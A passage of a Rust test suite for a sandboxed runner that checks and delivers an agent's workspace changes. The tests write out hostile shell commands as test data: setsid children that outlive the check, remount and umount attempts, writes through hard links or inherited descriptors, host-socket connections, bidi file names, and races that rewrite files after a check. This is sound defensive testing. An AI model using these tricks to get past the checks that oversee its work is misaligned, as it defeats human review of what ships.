    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    assert_eq!(e.step("check", "c1", 2, &[]).0, 0);
    std::fs::write(e.ws.join("a.txt"), "something else\n").unwrap();
    std::fs::write(e.ws.join("b.txt"), "planted\n").unwrap();
    let before = e.journal();
    let (code, out, err) = e.step("finish", "f1", 2, &[]);
    assert_eq!(code, 2, "finish accepted a workspace that is not the checked one: {out}{err}");
    assert!(err.contains("`a.txt`") && err.contains("`b.txt`"), "the refusal names the files: {err}");
    e.assert_refusal_appended_only(&before, 1);
    assert_eq!(e.status()["status"], "verified", "not finished");
    // Put back, the workspace is the checked revision again and finish is accepted.
    std::fs::write(e.ws.join("a.txt"), "good\n").unwrap();
    std::fs::remove_file(e.ws.join("b.txt")).unwrap();
    assert_eq!(e.step("finish", "f2", 2, &[]).0, 0);
    e.assert_journal_clean();
}

/// F82. A proposed `test.sh` (no sensitive path in the proposal) run by the check writes `.ci/deploy.yml`,
/// appends to `Cargo.toml` and writes outside the workspace: none of it may land.
#[test]
fn a_check_cannot_write_sensitive_paths_or_outside_the_workspace() {
    let e = env();
    let outside = e.dir.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(e.ws.join("Cargo.toml"), "[package]\nname = \"x\"\n").unwrap();
    e.create("sh test.sh", &[]);
    let script = format!(
        "mkdir -p .ci; echo 'deploy: everything' > .ci/deploy.yml\necho '[build]' >> Cargo.toml\necho leak > {}/leak\nexit 0\n",
        outside.display()
    );
    assert_eq!(e.propose("p1", 0, &[("test.sh", &script), ("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (_, out, err) = e.step("check", "c1", 2, &[]);
    assert!(!e.ws.join(".ci/deploy.yml").exists(), "the check wrote .ci/deploy.yml: {out}{err}");
    assert_eq!(e.read("Cargo.toml").as_deref(), Some("[package]\nname = \"x\"\n"), "the check changed Cargo.toml");
    assert!(!outside.join("leak").exists(), "the check wrote outside the workspace");
    e.assert_journal_clean();
}

/// F82. A check starts a `setsid` child (out of the check's process group) that rewrites a checked file after
/// `finish` was accepted: every process the check started ends with it.
#[test]
fn a_setsid_child_of_the_check_cannot_rewrite_the_workspace_after_finish() {
    let e = env();
    e.create("setsid sh -c 'sleep 1; echo evil > a.txt' </dev/null >/dev/null 2>&1 & grep -qx good a.txt", &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, out, err) = e.step("check", "c1", 2, &[]);
    assert_eq!(code, 0, "{out}{err}");
    let (code, out, err) = e.step("finish", "f1", 2, &[]);
    assert_eq!(code, 0, "{out}{err}");
    std::thread::sleep(Duration::from_millis(2000));
    assert_eq!(e.read("a.txt").as_deref(), Some("good\n"), "a process the check left behind rewrote the file");
}

/// F568: without the sandbox (`--unsandboxed-check`) a `setsid` child leaves the check's process group but not the
/// cgroups the runner made for it. The runner killed the group only: a child holding the output kept it open, the
/// check recorded no output at all and "a process outside the check's group kept it open" (it was in the check's
/// cgroup), and both children ran on after the check and wrote outside the workspace. Every process in the check's
/// cgroups now ends with the check.
#[test]
fn without_the_sandbox_a_setsid_child_ends_with_the_check_through_its_cgroup() {
    let e = env();
    let (quiet, holding) = (e.dir.path().join("quiet-child-ran"), e.dir.path().join("holding-child-ran"));
    let check = format!(
        "setsid sh -c 'sleep 2; touch {}' </dev/null >/dev/null 2>&1 & setsid sh -c 'sleep 6; touch {}' & echo check-done",
        quiet.display(),
        holding.display()
    );
    e.create(&check, &["--unsandboxed-check"]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, out, err) = e.step("check", "c1", 2, &["--json"]);
    assert_eq!(code, 0, "{out}{err}");
    let check = &json_of(&out)["check"];
    let tail = check["output_tail"].as_str().unwrap();
    assert!(check["limits"].as_str().unwrap().contains("pids cgroup"), "this test needs a pids cgroup: {check}");
    assert!(tail.contains("check-done") && !tail.contains("did not end"), "the output was lost: {check}");
    std::thread::sleep(Duration::from_millis(7_000));
    assert!(!quiet.exists(), "a setsid child with its output closed outlived the check");
    assert!(!holding.exists(), "a setsid child holding the check's output outlived the check");
}

/// F568's last sweep on its own: a `setsid` child that closed its output (so nothing makes the runner kill early)
/// still ends with an unsandboxed check.
#[test]
fn without_the_sandbox_a_quiet_setsid_child_ends_with_the_check() {
    let e = env();
    let ran = e.dir.path().join("quiet-child-ran");
    e.create(
        &format!("setsid sh -c 'sleep 2; touch {}' </dev/null >/dev/null 2>&1 & echo check-done", ran.display()),
        &["--unsandboxed-check"],
    );
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, out, err) = e.step("check", "c1", 2, &["--json"]);
    assert_eq!(code, 0, "{out}{err}");
    let check = &json_of(&out)["check"];
    assert!(check["limits"].as_str().unwrap().contains("pids cgroup"), "this test needs a pids cgroup: {check}");
    std::thread::sleep(Duration::from_millis(3_000));
    assert!(!ran.exists(), "a setsid child with its output closed outlived the check");
}

/// The sandbox, shown directly: a `setsid` child that outlives the check's shell, still holding the check's
/// output, is killed with the check's PID namespace before it can print again; it could write the `--writable`
/// directory, which is left out of the workspace manifest (and, since F202, is the private copy's, never the
/// live workspace's).
#[test]
fn the_sandbox_kills_a_setsid_child_that_outlives_the_check() {
    let e = env();
    e.create(
        "setsid sh -c 'echo started > out/started; echo child-started; sleep 1; echo survived' </dev/null 2>&1 & \
         for i in $(seq 200); do [ -s out/started ] && break; sleep 0.05; done; cat out/started; grep -qx good a.txt",
        &["--writable", "out"],
    );
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, out, err) = e.step("check", "c1", 2, &["--json"]);
    assert_eq!(code, 0, "{out}{err}");
    let check = &json_of(&out)["check"];
    assert!(check["sandbox"].as_str().unwrap().starts_with("bubblewrap:"), "{out}");
    let tail = check["output_tail"].as_str().unwrap();
    assert!(tail.contains("child-started"), "the child ran: {tail:?}");
    assert!(tail.lines().any(|l| l == "started"), "the child could write `out/`: {tail:?}");
    assert!(!tail.contains("survived"), "the child outlived the check: {tail:?}");
    assert_eq!(e.read("out/started"), None, "the check wrote the live workspace");
    assert_eq!(e.step("finish", "f1", 2, &[]).0, 0, "`out/` is not part of the revision");
    e.assert_journal_clean();
}

/// The sandbox's PID namespace, on its own: a check neither sees nor signals a process it did not start. (The
/// setsid test above is backed twice — the namespace and F568's cgroup kill — so no single mutation breaks it; this
/// one has only the namespace behind it.)
#[test]
fn a_check_neither_sees_nor_signals_a_process_outside_it() {
    let mut outside = Command::new("sleep").arg("120").spawn().unwrap();
    let pid = outside.id();
    let e = env();
    e.create(
        &format!(
            "if [ -e /proc/{pid} ] || kill -0 {pid} 2>/dev/null; then echo saw-{pid}; exit 1; fi; grep -qx good a.txt"
        ),
        &[],
    );
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, out, err) = e.step("check", "c1", 2, &["--json"]);
    let still_running = outside.try_wait().unwrap().is_none();
    outside.kill().ok();
    outside.wait().ok();
    assert!(still_running, "the check killed a process outside it");
    assert_eq!(code, 0, "the check saw process {pid} outside its sandbox: {out}{err}");
    assert!(json_of(&out)["check"]["sandbox"].as_str().unwrap().starts_with("bubblewrap:"), "{out}");
}

/// By default the check has no network: a listener on the runner's loopback is not reachable from it.
#[test]
fn a_check_has_no_network_by_default() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let e = env();
    let connect = format!("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\"");
    e.create(&connect, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, out, err) = e.step("check", "c1", 2, &[]);
    assert_eq!(code, 13, "the check reached the runner's loopback: {out}{err}");
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "a connection arrived");
}

/// A host that cannot sandbox refuses to run the check, saying so, unless the operator opted out at create; the
/// opt-out is recorded with the check.
#[test]
fn a_host_that_cannot_sandbox_refuses_the_check_unless_the_operator_opted_out() {
    let e = env();
    e.create("true", &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    // No `bwrap` on PATH.
    let out = e
        .cmd(&["task", "check", "--task", T, "--command-id", "c1", "--expected-revision", "2"])
        .env("PATH", e.dir.path())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_ne!(out.status.code(), Some(0));
    assert!(err.contains("cannot run in a sandbox") && err.contains("--unsandboxed-check"), "{err}");
    assert_eq!(e.status()["last_check"], Value::Null, "nothing ran, nothing recorded");

    let e = env();
    e.create("true", &["--unsandboxed-check"]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let out = e
        .cmd(&["task", "check", "--task", T, "--command-id", "c1", "--expected-revision", "2", "--json"])
        .env("PATH", e.dir.path())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(json_of(&text)["check"]["sandbox"].as_str().unwrap().contains("--unsandboxed-check"), "{text}");
}

/// What a person reads is escaped: the approval request lists one path per line with a bidi override shown as
/// `\u{202e}`, and the check's output reaches the terminal with its escape sequences made visible.
#[test]
fn approval_text_and_check_output_show_controls_and_bidi_visibly() {
    let e = env();
    e.create("printf 'ok\\033[2J\\342\\200\\256gnp.exe\\n'", &[]);
    let bidi = ".ci/a\u{202e}lmy.txt";
    assert_eq!(e.propose("p1", 0, &[(bidi, "x\n"), ("CARGO.TOML", "[package]\n")]).0, 0);
    let (code, out, err) = e.step("apply", "a1", 1, &[]);
    assert_eq!(code, 11, "both paths are sensitive (case ignored): {out}{err}");
    assert!(!out.contains('\u{202e}'), "a raw bidi override reached the terminal: {out}");
    assert!(out.contains("    .ci/a\\u{202e}lmy.txt\n") && out.contains("    CARGO.TOML\n"), "{out}");
    let pending = e.run(&["approvals", "list", "--json"]);
    let listed = String::from_utf8_lossy(&pending.stdout);
    assert!(listed.contains("a\\\\u{202e}lmy.txt"), "the approval's params show the override escaped: {listed}");

    let e = env();
    e.create("printf 'ok\\033[2J\\342\\200\\256gnp.exe\\n'", &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "x\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, out, _) = e.step("check", "c1", 2, &[]);
    assert_eq!(code, 0, "{out}");
    assert!(!out.contains('\u{1b}') && !out.contains('\u{202e}'), "raw control or bidi in the output: {out:?}");
    assert!(out.contains("  | ok\\u{1b}[2J\\u{202e}gnp.exe"), "{out}");
}

// ---------------------------------------------------------------------------------------------------------------
// Issue 20, the second outside attack (after F80–F83 landed): the check read the live workspace, the manifest
// left out directories and modes, `--writable` directories were the agent's, and host sockets were reachable.

/// F200. The revision says `a.txt` is `bad`; while the check runs, the agent writes `good` into the live workspace
/// and puts `bad` back before the check ends, so the hashes before and after the check match. The check must not
/// verify the revision on text that is not the revision's, and finish must not accept it.
#[test]
fn a_file_edited_during_the_check_and_restored_before_it_ends_does_not_verify_the_revision() {
    let e = env();
    e.create("sleep 3; grep -qx good a.txt && sleep 3", &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "bad\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let child = e
        .cmd(&["task", "check", "--task", T, "--command-id", "c1", "--expected-revision", "2"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // The attacker: after the check has started, the passing text; before it ends, the revision's text again.
    std::thread::sleep(Duration::from_millis(1500));
    std::fs::write(e.ws.join("a.txt"), "good\n").unwrap();
    std::thread::sleep(Duration::from_millis(3000));
    std::fs::write(e.ws.join("a.txt"), "bad\n").unwrap();
    let out = child.wait_with_output().unwrap();
    let said = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert_ne!(out.status.code(), Some(0), "the check passed on text the revision does not hold: {said}");
    assert_ne!(e.step("finish", "f1", 2, &[]).0, 0, "unverified code finished");
    e.assert_journal_clean();
}

/// F201. Directories and modes are part of the revision: an empty directory planted after the apply (which the
/// check tests for), a directory's mode and a file's mode changed after a passing check are drift, named.
#[test]
fn an_empty_directory_or_a_changed_mode_is_drift() {
    use std::os::unix::fs::PermissionsExt;
    let e = env();
    std::fs::create_dir(e.ws.join("src")).unwrap();
    std::fs::write(e.ws.join("src/lib.rs"), "// lib\n").unwrap();
    e.create("test -d marker || { echo 'no marker'; exit 1; }", &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    std::fs::create_dir(e.ws.join("marker")).unwrap();
    let (code, out, err) = e.step("check", "c1", 2, &[]);
    assert_eq!(code, 2, "the check ran on an empty directory the revision does not hold: {out}{err}");
    assert!(err.contains("`marker`"), "the refusal names the directory: {err}");
    std::fs::remove_dir(e.ws.join("marker")).unwrap();

    let e = env();
    std::fs::create_dir(e.ws.join("src")).unwrap();
    std::fs::write(e.ws.join("src/lib.rs"), "// lib\n").unwrap();
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    assert_eq!(e.step("check", "c1", 2, &[]).0, 0);
    std::fs::set_permissions(e.ws.join("src"), std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::set_permissions(e.ws.join("src/lib.rs"), std::fs::Permissions::from_mode(0o4644)).unwrap();
    let (code, out, err) = e.step("finish", "f1", 2, &[]);
    assert_eq!(code, 2, "finish accepted changed modes: {out}{err}");
    assert!(err.contains("`src`") && err.contains("`src/lib.rs`"), "the refusal names both: {err}");
    std::fs::set_permissions(e.ws.join("src"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(e.ws.join("src/lib.rs"), std::fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(e.step("finish", "f2", 2, &[]).0, 0, "modes put back: the checked revision again");
    e.assert_journal_clean();
}

/// F202. The agent plants hard links in a `--writable` directory, one to a file outside the workspace and one to a
/// read-only workspace file; the check writes through them. Neither file may change.
#[test]
fn a_hard_link_planted_in_a_writable_directory_cannot_carry_a_write_out_of_the_sandbox() {
    let e = env();
    let outside = e.dir.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("victim"), "victim\n").unwrap();
    std::fs::create_dir(e.ws.join("target")).unwrap();
    e.create("echo OVERWRITTEN > target/h_out; echo X >> target/h_ws; grep -qx good a.txt", &["--writable", "target"]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    std::fs::hard_link(outside.join("victim"), e.ws.join("target/h_out")).unwrap();
    std::fs::hard_link(e.ws.join("a.txt"), e.ws.join("target/h_ws")).unwrap();
    let (_, out, err) = e.step("check", "c1", 2, &[]);
    assert_eq!(
        std::fs::read_to_string(outside.join("victim")).unwrap(),
        "victim\n",
        "the check wrote outside the workspace through a hard link: {out}{err}"
    );
    assert_eq!(e.read("a.txt").as_deref(), Some("good\n"), "the check wrote a read-only file through a hard link");
}

/// F203. A proposed path inside a `--writable` directory (or the directory itself, or one of its parents as a
/// file) can never be applied as the revision holds it: refused at propose, saying why.
#[test]
fn a_proposed_path_inside_a_writable_directory_is_refused_at_propose() {
    let e = env();
    e.create(CHECK, &["--writable", "target", "--writable", "build/out"]);
    for (i, path) in ["target/x.txt", "target", "build/out/y.o", "build"].iter().enumerate() {
        let before = e.journal();
        let (code, out, err) = e.propose(&format!("p{i}"), 0, &[(path, "x\n")]);
        assert_eq!(code, 2, "`{path}` was accepted: {out}{err}");
        assert!(err.contains("--writable"), "the refusal says why: {err}");
        e.assert_refusal_appended_only(&before, 1);
    }
    // Beside a writable directory is fine.
    assert_eq!(e.propose("p9", 0, &[("build/x.rs", "x\n"), ("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    assert_eq!(e.step("check", "c1", 2, &[]).0, 0);
    assert_eq!(e.step("finish", "f1", 2, &[]).0, 0);
    e.assert_journal_clean();
}

/// F204. Host Unix sockets are out of the check's reach: a listener in the live `--writable` directory, one under
/// `/run` (where system services keep theirs) and an abstract one.
#[test]
fn the_check_cannot_reach_host_unix_sockets() {
    use std::os::linux::net::SocketAddrExt;
    let e = env();
    std::fs::create_dir(e.ws.join("target")).unwrap();
    let in_writable = std::os::unix::net::UnixListener::bind(e.ws.join("target/u.sock")).unwrap();
    let run_dir = PathBuf::from(format!("/run/foureyes-test-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&run_dir);
    std::fs::create_dir(&run_dir).expect("the test binds a socket under /run (it runs as root, as CI does)");
    let in_run = std::os::unix::net::UnixListener::bind(run_dir.join("s.sock")).unwrap();
    let name = format!("foureyes-test-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let abstract_listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    let connect = |target: &str| {
        format!(
            "python3 -c \"import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect({target}); print('CONNECTED', {target})\" 2>/dev/null"
        )
    };
    let check = format!(
        "{}; {}; {}; true",
        connect("'target/u.sock'"),
        connect(&format!("'{}'", run_dir.join("s.sock").display())),
        connect(&format!("'\\0{name}'"))
    );
    e.create(&check, &["--writable", "target"]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, out, err) = e.step("check", "c1", 2, &["--json"]);
    let _ = std::fs::remove_dir_all(&run_dir);
    assert_eq!(code, 0, "{out}{err}");
    let tail = json_of(&out)["check"]["output_tail"].as_str().unwrap().to_string();
    assert!(!tail.contains("CONNECTED"), "the check reached a host socket: {tail}");
    for l in [&in_writable, &in_run, &abstract_listener] {
        l.set_nonblocking(true).unwrap();
        assert!(l.accept().is_err(), "a connection arrived: {out}");
    }
}

/// The private copy holds only files, directories and symlinks: a FIFO the agent plants after the apply is not
/// copied; the check is refused as drift naming it. A runner whose `TMPDIR` lies inside the workspace (where the
/// agent writes) refuses to make its copy there.
#[test]
fn a_planted_fifo_or_a_tmpdir_inside_the_workspace_stops_the_check() {
    let e = env();
    std::fs::create_dir(e.ws.join("tmp")).unwrap();
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let made = Command::new("mkfifo").arg(e.ws.join("pipe")).status().unwrap();
    assert!(made.success());
    let (code, out, err) = e.step("check", "c1", 2, &[]);
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("`pipe`"), "the refusal names the FIFO: {err}");
    std::fs::remove_file(e.ws.join("pipe")).unwrap();

    let out = e
        .cmd(&["task", "check", "--task", T, "--command-id", "c2", "--expected-revision", "2"])
        .env("TMPDIR", e.ws.join("tmp"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_ne!(out.status.code(), Some(0));
    assert!(err.contains("inside the workspace"), "{err}");
    assert_eq!(std::fs::read_dir(e.ws.join("tmp")).unwrap().count(), 0, "nothing left in the workspace");
    assert_eq!(e.step("check", "c3", 2, &[]).0, 0, "with the runner's own TMPDIR the check runs");
    e.assert_journal_clean();
}

/// F240. A runner that runs as root (the test process is root here, as CI is) must not hand the check its
/// capabilities: the check runs as an unprivileged uid in its own user namespace with every capability dropped, so
/// it cannot remount `/` read-write, unmount its empty `/tmp` to reach the host's, or write outside the workspace.
#[test]
fn a_check_run_by_a_root_runner_has_no_capabilities_and_cannot_remount_or_write_outside() {
    let e = env();
    // Not under /tmp (the sandbox hides the host's /tmp): a directory the remount would expose.
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let leak = outside.path().join("leak");
    let check = format!(
        "grep CapEff /proc/self/status; id -u; mount -o remount,rw,bind / 2>/dev/null && echo REMOUNTED; \
         umount -l /tmp 2>/dev/null && echo UMOUNTED; echo leak > {} 2>/dev/null && echo WROTE; true",
        leak.display()
    );
    e.create(&check, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, out, err) = e.step("check", "c1", 2, &["--json"]);
    assert_eq!(code, 0, "{out}{err}");
    let tail = json_of(&out)["check"]["output_tail"].as_str().unwrap().to_string();
    assert!(tail.contains("CapEff:\t0000000000000000"), "the check kept capabilities: {tail}");
    assert!(!tail.lines().any(|l| l == "0"), "the check ran as uid 0: {tail}");
    for word in ["REMOUNTED", "UMOUNTED", "WROTE"] {
        assert!(!tail.contains(word), "the check could do what root does ({word}): {tail}");
    }
    assert!(!leak.exists(), "the check wrote outside the workspace");
    e.assert_journal_clean();
}

/// F241. Whatever started the runner may have left it a descriptor without close-on-exec (a CI agent, a service
/// wrapper, a shell's `7<>file`): the runner marks every descriptor above 2 close-on-exec before it starts the
/// sandbox (but the directories it binds), so the check cannot write a host file through one.
#[test]
fn a_descriptor_the_runner_inherited_does_not_reach_the_check() {
    let e = env();
    let host = e.dir.path().join("host-file.txt");
    std::fs::write(&host, "original\n").unwrap();
    e.create("echo written-from-the-sandbox >&7 && echo WROTE; true", &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let out = Command::new("/bin/bash")
        .env_remove("FOUREYES_DB")
        .env_remove("FOUREYES_POLICY")
        .arg("-c")
        .arg(format!(
            "exec 7<>'{}' && exec '{BIN}' --db '{}' task check --task {T} --command-id c1 --expected-revision 2 --json",
            host.display(),
            e.db.display()
        ))
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{stdout}{}", String::from_utf8_lossy(&out.stderr));
    let tail = json_of(&stdout)["check"]["output_tail"].as_str().unwrap().to_string();
    assert!(!tail.contains("WROTE"), "the check wrote through an inherited descriptor: {tail}");
    assert_eq!(std::fs::read_to_string(&host).unwrap(), "original\n", "the host file was written");
}

/// F243. A sparse file the agent plants costs it nothing on disk; the runner must not write its holes out into
/// its private copy before it finds the drift. The runner runs with a 64 MiB file-size limit (`ulimit -f`): a copy
/// of the 1 GiB file would kill it; a file whose size the revision does not hold is never read or copied, and the
/// check is refused as drift naming it.
#[test]
fn a_sparse_file_the_agent_planted_is_never_copied_before_the_drift_is_found() {
    let e = env();
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    std::fs::File::create(e.ws.join("big.bin")).unwrap().set_len(1 << 30).unwrap();
    let tmp = e.dir.path().join("runner-tmp");
    std::fs::create_dir(&tmp).unwrap();
    let out = Command::new("/bin/bash")
        .env_remove("FOUREYES_DB")
        .env_remove("FOUREYES_POLICY")
        .env("TMPDIR", &tmp)
        .arg("-c")
        .arg(format!(
            "ulimit -f 65536 && exec '{BIN}' --db '{}' task check --task {T} --command-id c1 --expected-revision 2",
            e.db.display()
        ))
        .output()
        .unwrap();
    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(out.status.code().is_some(), "the runner was killed (copying the sparse file?): {:?} {stderr}", out.status);
    assert!(format!("{stdout}{stderr}").contains("big.bin"), "the refusal names the planted file: {stdout}{stderr}");
    assert_eq!(std::fs::read_dir(&tmp).unwrap().count(), 0, "the private copy was left behind");
    e.assert_journal_clean();
}

/// F244. The directories above the workspace are the live host's: a `.cargo/config.toml` or `conftest.py` the
/// agent plants there (outside the manifest, so no drift) configures the check. In the sandbox the parents of the
/// workspace are empty: only the system's directories and the toolchains on `PATH` are mounted, read-only.
#[test]
fn a_file_planted_above_the_workspace_is_not_seen_by_the_check() {
    let e = env_in(tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap());
    std::fs::create_dir(e.dir.path().join(".cargo")).unwrap();
    std::fs::write(e.dir.path().join(".cargo/config.toml"), "[target.x]\nrunner = \"/bin/true\"\n").unwrap();
    std::fs::write(e.dir.path().join("conftest.py"), "import os\n").unwrap();
    e.create(
        "test -e ../.cargo/config.toml && echo SEEN-CARGO; test -e ../conftest.py && echo SEEN-CONFTEST; \
         python3 -c 'print(\"PYTHON-RUNS\")'; grep -qx good a.txt",
        &[],
    );
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, out, err) = e.step("check", "c1", 2, &["--json"]);
    assert_eq!(code, 0, "{out}{err}");
    let tail = json_of(&out)["check"]["output_tail"].as_str().unwrap().to_string();
    assert!(!tail.contains("SEEN"), "the check saw files above the workspace: {tail}");
    assert!(tail.contains("PYTHON-RUNS"), "a toolchain on PATH still runs: {tail}");
}

/// Rounds of the finish race (F310); each is a fresh task whose `finish` the agent catches mid-walk.
const FINISH_RACE_ROUNDS: usize = 4;

/// Waits until process `pid` holds a file whose path ends with `suffix` open; false when it ended first or
/// `limit` passed.
fn wait_until_open(pid: u32, suffix: &str, limit: Duration) -> bool {
    let started = Instant::now();
    let fds = PathBuf::from(format!("/proc/{pid}/fd"));
    while started.elapsed() < limit {
        let Ok(entries) = std::fs::read_dir(&fds) else { return false };
        for entry in entries.flatten() {
            if std::fs::read_link(entry.path()).is_ok_and(|t| t.to_string_lossy().ends_with(suffix)) {
                return true;
            }
        }
        std::thread::yield_now();
    }
    false
}

/// What `finish --json` says it delivered; a binary without deliveries delivers the live workspace.
fn delivered(e: &Env, finish_json: &str) -> PathBuf {
    match serde_json::from_str::<Value>(finish_json).ok().and_then(|v| v["delivered"].as_str().map(PathBuf::from)) {
        Some(dir) => dir,
        None => e.ws.clone(),
    }
}

/// F310 (outside attack 4 #4). `finish` hashed the live workspace while the agent could still write it: the agent
/// waits until finish has read `a.txt` (finish holds the next file, a large `b.bin`, open) and rewrites it;
/// `finished` was recorded on a workspace holding the rewritten file. Now finish copies the workspace into the
/// runner's delivery directory, hashing what it writes, and that copy is what is delivered: whatever the agent
/// does to the live workspace, an accepted finish delivers the checked `a.txt`. Run several times, `b.bin` widening
/// the window.
#[test]
fn what_finish_delivers_is_the_checked_code_even_when_the_agent_rewrites_a_file_finish_has_read() {
    let mut caught = 0;
    for round in 0..FINISH_RACE_ROUNDS {
        let e = env();
        std::fs::write(e.ws.join("b.bin"), vec![7u8; 24 << 20]).unwrap();
        e.create(CHECK, &[]);
        assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
        assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
        assert_eq!(e.step("check", "c1", 2, &[]).0, 0);
        let child = e
            .cmd(&["task", "finish", "--task", T, "--command-id", "f1", "--expected-revision", "2", "--json"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // The agent: as soon as finish is past `a.txt`, it writes its own.
        let swapped = wait_until_open(child.id(), "b.bin", Duration::from_secs(30));
        if swapped {
            std::fs::write(e.ws.join("a.txt"), "EVIL\n").unwrap();
        }
        let out = child.wait_with_output().unwrap();
        let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        if !swapped {
            continue;
        }
        caught += 1;
        if out.status.code() == Some(0) {
            let dir = delivered(&e, &stdout);
            assert_eq!(
                std::fs::read_to_string(dir.join("a.txt")).unwrap(),
                "good\n",
                "round {round}: finish was accepted and delivers `{}`, whose a.txt the agent rewrote after the check: {stdout}{stderr}",
                dir.display()
            );
            assert_eq!(std::fs::metadata(dir.join("b.bin")).unwrap().len(), 24 << 20);
            assert_eq!(e.status()["delivered"].as_str(), Some(dir.to_str().unwrap()), "the journal names the delivery");
        } else {
            assert_eq!(out.status.code(), Some(2), "round {round}: {stdout}{stderr}");
        }
        e.assert_journal_clean();
    }
    assert!(caught > 0, "finish was never caught between a.txt and b.bin: the race was not run");
}

/// F311 (outside attack 4 #5). The live `--writable` directories were never compared at finish: after the check
/// the agent plants a setuid script and a FIFO in `target/`, or swaps `target` for a symlink out of the workspace,
/// and the finished workspace ships them. What is delivered now is the runner's copy of the revision, which holds
/// no writable directory at all.
#[test]
fn nothing_planted_in_a_writable_directory_after_the_check_is_delivered() {
    use std::os::unix::fs::PermissionsExt;
    for swap in [false, true] {
        let e = env();
        e.create(CHECK, &["--writable", "target"]);
        assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
        assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
        assert_eq!(e.step("check", "c1", 2, &[]).0, 0);
        let planted = if swap {
            let outside = e.dir.path().join("outside");
            std::fs::create_dir(&outside).unwrap();
            let _ = std::fs::remove_dir_all(e.ws.join("target"));
